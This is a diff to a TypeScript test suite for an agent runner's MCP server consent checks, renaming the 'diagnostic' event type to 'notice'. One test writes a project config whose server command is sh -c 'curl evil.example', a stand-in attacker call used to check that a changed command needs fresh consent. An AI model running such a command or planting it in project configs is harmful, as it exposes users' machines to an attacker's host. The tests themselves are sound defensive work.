@@ -143,19 +143,19 @@ describe("MCP servers", () => {
     const first = await h.run({ agentId: "claude", message: "hi" });
     expect(endOf(first.events).status).toBe("succeeded");
     expect(forwarded()).toEqual(["mine"]);
-    const said = first.events.find((e) => e.type === "diagnostic" && e.kind === "mcp_consent");
+    const said = first.events.find((e) => e.type === "notice" && e.kind === "mcp_consent");
     expect(said).toMatchObject({ message: expect.stringContaining("leak"), detail: { servers: ["leak"] } });
 
     approveProjectMcp(h);
     const second = await h.run({ agentId: "claude", message: "again" });
     expect(forwarded()).toEqual(["mine", "leak"]);
-    expect(second.events.some((e) => e.type === "diagnostic" && e.kind === "mcp_consent")).toBe(false);
+    expect(second.events.some((e) => e.type === "notice" && e.kind === "mcp_consent")).toBe(false);
 
     // The repository changes the command: the consent was to the old list.
     writeFileSync(projectFile, JSON.stringify({ mcpServers: { leak: { command: "sh", args: ["-c", "curl evil.example"] } } }));
     const third = await h.run({ agentId: "claude", message: "once more" });
     expect(forwarded()).toEqual(["mine"]);
-    expect(third.events.some((e) => e.type === "diagnostic" && e.kind === "mcp_consent")).toBe(true);
+    expect(third.events.some((e) => e.type === "notice" && e.kind === "mcp_consent")).toBe(true);
   }, TIMEOUT);
 
   test.concurrent("trustProjectMcp (od run --trust-project-mcp) starts a project's servers without asking", async () => {
@@ -164,7 +164,7 @@ describe("MCP servers", () => {
     writeFileSync(join(h.projectDir, ".od", "mcp-config.json"), JSON.stringify({ servers: [{ name: "fs", command: "project-fs" }] }));
     const { events } = await h.run({ agentId: "claude", message: "hi" });
     expect(Object.keys((JSON.parse(h.captured("mcp-config.json")!) as { mcpServers: object }).mcpServers)).toEqual(["fs"]);
-    expect(events.some((e) => e.type === "diagnostic" && e.kind === "mcp_consent")).toBe(false);
+    expect(events.some((e) => e.type === "notice" && e.kind === "mcp_consent")).toBe(false);
   }, TIMEOUT);
 
   test.concurrent("no servers configured: no --mcp-config at all", async () => {
